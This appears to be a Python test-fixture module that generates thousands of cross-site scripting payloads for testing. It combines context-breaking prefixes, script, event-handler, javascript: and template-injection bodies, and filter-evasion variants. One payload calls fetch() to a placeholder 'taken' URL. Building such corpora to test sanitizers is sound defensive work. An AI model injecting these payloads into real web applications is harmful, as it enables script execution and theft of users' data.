"""Texts that try to be more than text: each breaks out of somewhere, and runs, loads or draws something."""

from __future__ import annotations

from itertools import product

OUT = "http://127.0.0.1:9/taken"  # where nobody listens: to ask for it is to have lost
BREAKS = (
    "", '"', "'", '">', "'>", "`>", "</bdi>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>",
    "</svg>", '" autofocus x="', "\n", "</a>", "\u202e", "\u2069", "\u0000",
)  # fmt: skip
RUNS = ("window.hit=1", "alert(1)", f"fetch('{OUT}')", "document.title='hit'")
BODIES = (
    "<script>{}</script>", "<ScRiPt/x>{}</sCrIpT >", '<script src="{}"></script>', "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>">', "<body onload={}>", "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>x</marquee>",
    '<a href="javascript:{}">click</a>', '<form action="javascript:{}"><button>ok</button></form>',
    "<math><mtext><img src=x onerror={}></mtext></math>", '<object data="javascript:{}"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">', '<base href="http://127.0.0.1:9/"><script>{}</script>',
    "<style>@import '{}';</style>", '<link rel=stylesheet href="{}">',
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "' onmouseover={} '", "[click](javascript:{})", "![x](http://127.0.0.1:9/taken?{})",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<%= {} %>", "{{% raw %}}<script>{}</script>{{% endraw %}}", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "<sc\u0000ript>{}</script>", "<\u200bscript>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<!--<script>{}</script>",
    "<template><script>{}</script></template>", "<portal src='javascript:{}'>", "<x contenteditable onblur={}>x</x>",
)  # fmt: skip


def few(number: int = 200) -> list[str]:
    """Some of all, spread evenly."""
    everything = many()
    return everything[:: len(everything) // number][:number]


def many() -> list[str]:
    """All of them."""
    return [
        f"{number} {cut}{body.format(run)}"
        for number, (cut, body, run) in enumerate(product(BREAKS, BODIES, RUNS))
    ]


def wide(number: int) -> list[str]:
    """As many as are asked for: all of them, and then pairs of them."""
    one = many()
    return (
        one
        + [f"{a} {b}" for a, b in zip(one, reversed(one), strict=True)]
        + [f"{a}{a}{a}" for a in one]
    )[:number]
